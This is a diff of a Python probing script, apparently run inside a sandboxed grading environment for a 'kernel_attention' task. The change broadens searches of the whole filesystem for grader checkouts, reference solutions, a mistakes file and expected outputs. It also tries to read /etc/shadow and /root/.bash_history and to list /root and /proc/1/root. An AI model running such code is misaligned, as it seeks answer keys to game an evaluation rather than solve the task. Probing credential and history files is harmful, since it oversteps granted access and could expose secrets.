@@ -29,19 +29,22 @@ def try_read(path):
 note("whoami", f"uid={os.getuid()} gid={os.getgid()} cwd={os.getcwd()} HOME={os.environ.get('HOME')}")
 note("env", sorted(os.environ))
 note("sys.path", sys.path)
-for path in ["/work/main/reference/kernel_attention.py", "/work/main/reference/kernel_attention_mistakes.py",
-             "/work/main/graders/suites/kernel_attention.py",
-             "/work/main/examples/kernel_attention/reference/kernel_attention.py",
-             "/work/main/examples/kernel_attention/expected.yaml", "/work/shared/spec/homework.md",
+# wherever a grader's checkout might be: any folder up to three levels below / that holds reference/ or graders/
+CHECKOUTS = sorted({os.path.dirname(os.path.dirname(hit)) for depth in ("*", "*/*", "*/*/*")
+                    for hit in glob.glob(f"/{depth}/reference/kernel_attention.py") +
+                    glob.glob(f"/{depth}/graders/suites/kernel_attention.py")})
+for path in [*(os.path.join(c, f) for c in CHECKOUTS for f in (
+                 "reference/kernel_attention.py", "reference/kernel_attention_mistakes.py",
+                 "graders/suites/kernel_attention.py", "examples/kernel_attention/expected.yaml")),
              "../reference/kernel_attention.py", "../../reference/kernel_attention.py", "/etc/shadow",
              "/root/.bash_history", "/tmp/grader/child.py"]:
     try_read(path)
-for folder in ["/", "/work", "/work/main", "/tmp", "..", "/tmp/grader", "/home", "/root", "/proc/1/root"]:
+for folder in ["/", "/tmp", "..", "/tmp/grader", "/home", "/root", "/proc/1/root", *CHECKOUTS]:
     try:
         note("ls", f"{folder}: {sorted(os.listdir(folder))[:40]}")
     except OSError as e:
         note("no ls", f"{folder}: {type(e).__name__}")
-for root in ["/work", "/tmp", "/opt", "/srv", "/var/tmp", "/mnt"]:
+for root in ["/tmp", "/opt", "/srv", "/var/tmp", "/mnt", "/home", *CHECKOUTS]:
     hits = glob.glob(f"{root}/**/kernel_attention*.py", recursive=True)[:20]
     note("glob", f"{root}: {hits}")
 for name in ["reference", "reference.kernel_attention", "graders", "graders.suites.kernel_attention"]:
